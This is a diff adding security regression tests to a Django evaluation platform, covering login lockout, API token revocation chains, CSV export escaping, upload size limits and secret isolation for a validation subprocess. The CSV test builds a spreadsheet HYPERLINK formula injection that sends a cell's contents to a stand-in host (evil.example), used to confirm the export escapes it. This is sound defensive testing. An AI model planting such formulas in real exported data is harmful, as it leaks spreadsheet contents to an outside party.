@@ -9,12 +9,15 @@ reference's content; or any score of the blind phase (before release).
 """
 from __future__ import annotations
 
+import csv
+import io
 import re
 import uuid
 
 import pytest
 from django.conf import settings
 from django.urls import URLPattern, URLResolver, get_resolver
+from django.utils import timezone
 
 from shareval.platform.accounts.models import ApiToken
 from shareval.platform.submissions import queue, service
@@ -37,9 +40,10 @@ RULES = {
     "submit": (MEMBERS | ORG, MEMBERS | ORG), "my-submissions": (USERS, USERS),
     "leaderboard": (ALL, ALL), "public-file": (ALL, ALL),
     "organize": (ORG, ORG), "release": (set(), ORG), "rescore": (set(), ORG),
+    "review-team": (set(), ORG),
     "export-csv": (ORG, ORG),
     "submission": ({"bob", "org"}, {"bob", "org"}), "submission-plot": (set(), set()),
-    "submission-action": (set(), {"bob"}),
+    "submission-action": (set(), {"bob", "org"}),
     "api-competitions": (ALL, set()), "api-competition": (ALL, set()),
     "api-leaderboard": (ALL, set()), "api-release": (set(), ORG), "api-rescore": (set(), ORG),
     "api-export-csv": (ORG, set()),
@@ -109,7 +113,8 @@ def scene(world):
     values = {"c": w["comp"].slug, "p": "eval", "d": "eval", "t": "labels", "s": bob_eval.pk,
               "name": "items.txt", "pk": bob_token.pk, "action": "cancel",
               "object_id": 1, "app_label": "auth", "content_type_id": 1, "url": "x", "id": 1,
-              "j": camp.pk, "item": camp.items.first().pk, "kind": "judgments.csv"}
+              "j": camp.pk, "item": camp.items.first().pk, "kind": "judgments.csv",
+              "team": w["teams"]["Team B"].pk}
     return {"w": w, "users": {"anon": None, "outsider": outsider, "alice": users["alice"],
                               "bob": users["bob"], "org": w["org"]},
             "values": values, "blind_values": set(blind_values), "ref_text": ref_text,
@@ -255,3 +260,165 @@ def test_unknown_submission_ids_look_like_forbidden_ones(scene, client):
     a = client.get(f"/api/submissions/{uuid.uuid4()}/")
     b = client.get(f"/api/submissions/{scene['bob'].pk}/")
     assert a.status_code == b.status_code == 404 and a.json() == b.json()
+
+
+def _login(client, username, password, ip="127.0.0.1", path="/accounts/login/"):
+    return client.post(path, {"username": username, "password": password}, REMOTE_ADDR=ip)
+
+
+def test_wrong_passwords_lock_the_account_from_that_ip_until_the_cool_off(world, client):
+    """Issue 20, finding 8: 50 wrong passwords, then the right one worked."""
+    import datetime as dt
+
+    from axes.models import AccessAttempt
+    from django.utils import timezone
+    assert settings.AXES_FAILURE_LIMIT == 5
+    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
+        r = _login(client, "bob", "wrong-password")
+        assert r.status_code == 200 and "_auth_user_id" not in client.session
+    assert _login(client, "bob", "wrong-password").status_code == 429     # the 5th locks
+    r = _login(client, "bob", "bob-pass-123")
+    assert r.status_code == 429 and b"locked" in r.content
+    assert "_auth_user_id" not in client.session
+    assert _login(client, "bob", "bob-pass-123", path="/admin/login/").status_code == 429
+    # the lock is for this username from this IP: others are not locked out with bob
+    other = type(client)()
+    assert _login(other, "alice", "alice-pass-123").status_code == 302
+    assert _login(type(client)(), "bob", "bob-pass-123", ip="192.0.2.7").status_code == 302
+    # API tokens are not passwords: they keep working
+    _, key = ApiToken.issue(world["users"]["bob"], "t")
+    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {key}").status_code == 200
+    # once the cool-off has passed, the right password works again
+    AccessAttempt.objects.update(attempt_time=timezone.now() - settings.AXES_COOLOFF_TIME
+                                 - dt.timedelta(seconds=1))
+    assert _login(client, "bob", "bob-pass-123").status_code == 302
+    assert client.session["_auth_user_id"] == str(world["users"]["bob"].pk)
+    assert settings.AXES_COOLOFF_TIME == dt.timedelta(minutes=15)
+
+
+def test_a_token_minted_by_a_token_dies_with_its_parent(scene, client):
+    bob = scene["users"]["bob"]
+    root, root_key = ApiToken.issue(bob, "root")
+    keys = [root_key]
+    for name in ("child", "grandchild"):            # each minted with the previous key
+        r = client.post("/api/tokens/", {"name": name},
+                        HTTP_AUTHORIZATION=f"Token {keys[-1]}")
+        assert r.status_code == 201
+        keys.append(r.json()["key"])
+    chain = list(ApiToken.objects.filter(user=bob, name__in=["root", "child", "grandchild"])
+                 .order_by("created"))
+    assert [t.parent_id for t in chain] == [None, chain[0].pk, chain[1].pk]
+    sibling, sibling_key = ApiToken.issue(bob, "sibling")           # made in the browser
+    client.force_login(bob)
+    assert client.post(f"/accounts/tokens/{root.pk}/revoke/").status_code == 302
+    client.logout()
+    for key in keys:
+        r = client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {key}")
+        assert r.status_code == 401, key
+    assert all(t.revoked for t in ApiToken.objects.filter(pk__in=[t.pk for t in chain]))
+    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {sibling_key}").status_code \
+        == 200
+
+
+def test_a_child_is_refused_when_only_its_parent_row_says_revoked(scene, client):
+    # e.g. a child minted while the parent was being revoked: checked on every use
+    bob = scene["users"]["bob"]
+    parent, parent_key = ApiToken.issue(bob, "parent")
+    r = client.post("/api/tokens/", {"name": "child"}, HTTP_AUTHORIZATION=f"Token {parent_key}")
+    child_key = r.json()["key"]
+    ApiToken.objects.filter(pk=parent.pk).update(revoked=timezone.now())
+    assert ApiToken.objects.get(name="child", user=bob).revoked is None
+    r = client.get("/api/submissions/", HTTP_AUTHORIZATION=f"Token {child_key}")
+    assert r.status_code == 401 and "revoked" in r.json()["error"]
+
+
+def test_revoking_over_the_api_revokes_descendants(scene, client):
+    bob = scene["users"]["bob"]
+    parent, parent_key = ApiToken.issue(bob, "p")
+    child_key = client.post("/api/tokens/", {"name": "c"},
+                            HTTP_AUTHORIZATION=f"Token {parent_key}").json()["key"]
+    client.force_login(bob)
+    assert client.delete(f"/api/tokens/{parent.pk}/").status_code == 200
+    assert ApiToken.objects.get(name="c", user=bob).revoked is not None
+    client.logout()
+    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {child_key}").status_code == 401
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_formulas_in_team_and_file_names(world, client, start):
+    from shareval.platform.competitions.models import Membership, Team
+    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    users = world["users"]
+    team = Team.objects.create(competition=world["comp"], name=evil, lead=users["dave"])
+    Membership.objects.create(team=team, user=users["dave"], status=Membership.APPROVED)
+    service.submit(users["dave"], team, world["ds"]["dev"],
+                   Upload(f"{start}cmd.tsv", run_with_accuracy(12)))
+    queue.drain()
+    client.force_login(world["org"])
+    for url in (f"/c/{world['comp'].slug}/organize/results.csv",
+                f"/api/competitions/{world['comp'].slug}/results.csv"):
+        text = client.get(url).content.decode()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        mine = [r for r in rows if r["team"].endswith(evil[1:])]
+        assert len(mine) == 1
+        assert mine[0]["team"] == "'" + evil and mine[0]["file"] == f"'{start}cmd.tsv"
+        for r in rows:                       # no text cell anywhere starts a formula
+            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values()), r
+        assert float(mine[0]["accuracy"]) == pytest.approx(0.6)
+
+
+def test_formula_escape_leaves_numbers_and_plain_text_alone_and_round_trips():
+    from shareval.formats.spreadsheet import escape_formula, unescape_formula
+    assert escape_formula(-0.25) == -0.25 and escape_formula(0) == 0
+    assert escape_formula(None) is None
+    assert escape_formula("Team A") == "Team A" and escape_formula("a=b") == "a=b"
+    assert escape_formula("-1") == "'-1" and escape_formula("@SUM(A1)") == "'@SUM(A1)"
+    for text in ("=x", "+x", "-x", "@x", "\tx", "\rx", "plain", "'quoted", "'=x", ""):
+        assert unescape_formula(escape_formula(text)) == text
+    assert unescape_formula("'plain") == "'plain"            # only the escape is removed
+
+
+def test_csv_rows_stay_whole_with_line_breaks_in_names(world):
+    from shareval.platform.competitions.export import results_csv
+    users = world["users"]
+    for name in ("a\rb.tsv", "c\nd.tsv", "e\r\nf.tsv"):
+        service.submit(users["alice"], world["teams"]["Team A"], world["ds"]["dev"],
+                       Upload(name, run_with_accuracy(12)))
+    queue.drain()
+    rows = list(csv.DictReader(io.StringIO(results_csv(world["comp"]), newline="")))
+    assert sorted(r["file"] for r in rows if r["team"] == "Team A") == \
+        ["a\rb.tsv", "c\nd.tsv", "e\r\nf.tsv"]
+    assert all(r["submission"] for r in rows)
+
+
+def test_body_limit_middleware_refuses_large_declared_bodies(world, client, settings):
+    # issue 20.5 for WSGI servers other than waitress: refused before the body is read
+    settings.MAX_UPLOAD_BYTES = 2 ** 20
+    r = client.generic("POST", "/api/competitions/", b"", CONTENT_LENGTH=str(6 * 2 ** 20))
+    assert r.status_code == 413 and "too large" in r.json()["error"]
+    r = client.generic("POST", "/api/submissions/", b"", CONTENT_LENGTH=str(3 * 2 ** 20))
+    assert r.status_code == 413
+    r = client.generic("POST", "/api/submissions/", b"", CONTENT_LENGTH=str(2 ** 20))
+    assert r.status_code != 413
+    from shareval.platform.bodylimit import UPLOAD_ROUTES
+    from django.urls import get_resolver
+    names = {p.name for p in get_resolver().url_patterns if hasattr(p, "name")}
+    assert UPLOAD_ROUTES <= names                   # a renamed route must not slip out
+
+
+def test_the_validation_child_gets_no_server_secrets(monkeypatch, tmp_path):
+    from shareval.platform.submissions import isolate
+    seen: dict = {}
+    real = isolate.subprocess.run
+
+    def spy(*a, **k):
+        seen.update(k["env"])
+        return real(*a, **k)
+    monkeypatch.setattr(isolate.subprocess, "run", spy)
+    monkeypatch.setenv("SHAREVAL_SECRET_KEY", "s3cret")
+    monkeypatch.setenv("SHAREVAL_DATABASE_URL", "postgres://u:pw@h/db")
+    f = tmp_path / "run.tsv"
+    f.write_text(run_with_accuracy(10))
+    v = isolate.validate("classification", str(f), None, isolate.Limits())
+    assert not v.problems and not v.limit and not v.crash, v
+    assert seen and not [k for k in seen if k.startswith("SHAREVAL_")]
